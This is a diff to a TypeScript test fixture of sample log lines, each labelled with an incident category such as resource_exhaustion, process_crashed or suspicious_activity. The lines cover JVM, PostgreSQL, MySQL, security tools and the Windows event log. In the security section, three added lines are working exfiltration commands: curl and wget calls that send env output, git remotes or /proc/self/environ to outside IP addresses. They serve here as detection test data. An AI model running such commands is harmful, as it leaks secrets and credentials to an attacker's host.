@@ -106,6 +106,14 @@ const FAMILIES: Record<string, Case> = {
   },
   'JVM (Java, Kotlin, Scala) and its common libraries': {
     real: [
+      [
+        'org.apache.tomcat.jdbc.pool.PoolExhaustedException: [dw-3832 - GET /season] Timeout: Pool empty. Unable to fetch a connection in 30 seconds, none available[size:100; busy:100; idle:0; lastwait:30000].',
+        'resource_exhaustion',
+      ],
+      [
+        'org.apache.commons.dbcp.SQLNestedException: Cannot get a connection, pool error Timeout waiting for idle object',
+        'resource_exhaustion',
+      ],
       ['java.lang.OutOfMemoryError: Metaspace', 'out_of_memory'],
       ['java.net.ConnectException: Connection refused (Connection refused)', 'dependency_failure'],
       [
@@ -265,6 +273,11 @@ const FAMILIES: Record<string, Case> = {
   },
   PostgreSQL: {
     real: [
+      ['PG::NumericValueOutOfRange: ERROR:  integer out of range', 'data_integrity'],
+      [
+        'ERROR:  nextval: reached maximum value of sequence "events_id_seq" (2147483647)',
+        'data_integrity',
+      ],
       ['FATAL:  sorry, too many clients already', 'resource_exhaustion'],
       [
         'FATAL:  remaining connection slots are reserved for non-replication superuser connections',
@@ -304,6 +317,15 @@ const FAMILIES: Record<string, Case> = {
   },
   'MySQL and MariaDB': {
     real: [
+      ["ERROR 1264 (22003): Out of range value for column 'id' at row 1", 'data_integrity'],
+      [
+        '2021-11-27T14:07:13.414Z 0 [ERROR] [MY-012872] [InnoDB] Semaphore wait has lasted > 600 seconds. We intentionally crash the server because it appears to be hung.',
+        'process_crashed',
+      ],
+      [
+        '2021-11-27T14:07:13.415Z 0 [ERROR] [MY-013183] [InnoDB] Assertion failure: srv0srv.cc:1907 thread 140380',
+        'process_crashed',
+      ],
       ['ERROR 1040 (08004): Too many connections', 'resource_exhaustion'],
       [
         "ERROR 2003 (HY000): Can't connect to MySQL server on 'db-01:3306' (111)",
@@ -691,6 +713,12 @@ const FAMILIES: Record<string, Case> = {
   'security: sshd/PAM, fail2ban, Falco, GuardDuty, ModSecurity, auditd, exploit strings': {
     real: [
       [
+        `curl -sm 0.5 -d "${DOLLAR}(git remote -v)<<<<<< ENV ${DOLLAR}(env)" http://104.248.94.23/upload/v2 || true`,
+        'suspicious_activity',
+      ],
+      ['env | curl -s -X POST --data-binary @- https://203.0.113.9/c', 'suspicious_activity'],
+      ['wget --post-file=/proc/self/environ http://203.0.113.9/', 'suspicious_activity'],
+      [
         'sshd[22811]: Failed password for invalid user admin from 45.155.205.3 port 51234 ssh2',
         'suspicious_activity',
       ],
@@ -725,6 +753,44 @@ const FAMILIES: Record<string, Case> = {
       'sshd[813]: Failed password for alice from 10.0.0.7 port 40112 ssh2',
       'sshd[814]: Received disconnect from 10.0.0.5 port 51234:11: disconnected by user',
       '_XSERVTransmkdir: Owner of /tmp/.X11-unix should be set to root',
+      '+ curl -sSf -H "Authorization: Bearer [redacted]" https://api.example.com/health',
+      '+ env | grep -c ^CI_',
+    ],
+  },
+  'Windows Server event log (BugCheck, Kernel-Power, Service Control Manager, WER, IIS WAS)': {
+    real: [
+      [
+        'The computer has rebooted from a bugcheck.  The bugcheck was: 0x00000050 (0xffff9c8e0000008c, 0x0000000000000000, 0xfffff80263a4e5a1, 0x0000000000000002).',
+        'process_crashed',
+      ],
+      [
+        'Kernel-Power 41: The system has rebooted without cleanly shutting down first. This error could be caused if the system stopped responding, crashed, or lost power unexpectedly.',
+        'process_crashed',
+      ],
+      [
+        'EventLog 6008: The previous system shutdown at 3:14:07 AM on 7/19/2024 was unexpected.',
+        'process_crashed',
+      ],
+      ['Stop code: PAGE_FAULT_IN_NONPAGED_AREA  What failed: csagent.sys', 'process_crashed'],
+      [
+        'Service Control Manager 7031: The World Wide Web Publishing Service service terminated unexpectedly.  It has done this 1 time(s).',
+        'process_crashed',
+      ],
+      [
+        'Application Error 1000: Faulting application name: w3wp.exe, version: 10.0.17763.1',
+        'process_crashed',
+      ],
+      [
+        "WAS 5002: Application pool 'OrdersPool' is being automatically disabled due to a series of failures in the process(es) serving that application pool.",
+        'crash_loop',
+      ],
+    ],
+    benign: [
+      'EventLog 6005: The Event log service was started.',
+      'Kernel-General 12: The operating system started at system time 2024-07-19T04:10:02.500000000Z.',
+      'Service Control Manager 7036: The Windows Update service entered the running state.',
+      'EventLog 6006: The Event log service was stopped.',
+      'User32 1074: The process C:\\Windows\\system32\\svchost.exe has initiated the restart of computer WIN-APP-014 on behalf of user NT AUTHORITY\\SYSTEM for the following reason: Operating System: Service pack (Planned)',
     ],
   },
 };
